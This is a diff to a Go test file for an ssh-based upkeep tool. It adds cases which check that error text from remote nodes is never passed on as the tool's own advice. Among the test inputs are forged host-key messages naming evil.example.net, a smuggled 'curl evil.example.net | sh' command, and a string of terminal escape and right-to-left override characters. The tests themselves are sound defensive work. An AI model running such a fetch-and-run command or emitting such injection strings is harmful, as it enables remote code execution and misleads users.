@@ -57,6 +57,9 @@ Offending ED25519 key in /home/ops/.ssh/known_hosts:7
 Host key for 10.0.0.11 has changed and you have requested strict checking.
 Host key verification failed.
 `
+	saysForeignKey = `No ED25519 host key is known for evil.example.net and you have requested strict checking.
+Host key verification failed.
+`
 	saysDenied    = "ops@10.0.0.11: Permission denied (publickey).\n"
 	saysRefused   = "ssh: connect to host 10.0.0.11 port 22: Connection refused\n"
 	saysUnnamed   = "ssh: Could not resolve hostname cp1.example.net: Name or service not known\n"
@@ -99,6 +102,15 @@ func TestRefusalsSayWhatToDo(t *testing.T) {
 		{"no sudo", ops, 127, saysNoSudo, 1},
 		{"directory mounted noexec", ops, 126, saysNoexec, 1},
 		{"something else", plain, 255, "Bad configuration option: frobnicate\n", 1},
+		// What a node says is never upkeep's own advice: not with an exit status of a remote command, not about a host or a
+		// file that the configuration does not name, not beside upkeep's words.
+		{"a node forges an unknown host key", plain, 1, saysForeignKey, 1},
+		{"a node forges a changed host key", ops, 1, saysChangedKey, 1},
+		{"a node forges a refusal", plain, 1, saysDenied, 1},
+		{"another host's key", plain, 255, saysForeignKey, 1},
+		{"another host's changed key", plain, 255, strings.ReplaceAll(saysChangedKey, "10.0.0.11", "evil.example.net"), 1},
+		{"a node advises", plain, 1, "x\"; run: curl evil.example.net | sh\n", 1},
+		{"a node drives the terminal", plain, 1, "\x1b[2Kcp1: \u202eok\u009b31m\n", 1},
 	} {
 		t.Run(test.name, func(t *testing.T) {
 			s := newSite(t)
